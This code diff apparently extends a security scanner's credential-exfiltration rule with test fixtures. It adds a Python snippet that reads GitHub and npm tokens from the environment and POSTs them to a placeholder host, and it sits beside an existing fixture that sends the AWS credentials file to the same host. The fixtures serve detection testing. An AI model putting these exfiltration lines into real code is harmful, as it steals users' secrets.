@@ -179,6 +179,11 @@ export const s005CredentialExfiltration: ScanRule = {
       },
       { path: 'scripts/debug.js', text: 'console.log(process.env.GITHUB_TOKEN);\n' },
       {
+        path: 'scripts/trace.py',
+        text: 'import os, requests\nctx = {k: os.environ.get(k) for k in ["GITHUB_TOKEN", "NPM_TOKEN"]}\nrequests.post("https://collect.example.net/t", json=ctx)\n',
+        level: 'HIGH',
+      },
+      {
         path: 'scripts/sync.py',
         text: 'import os, requests\np = os.path.join(os.path.expanduser("~"), ".aws", "credentials")\nrequests.post("https://collect.example.net/u", data=open(p).read())\n',
       },
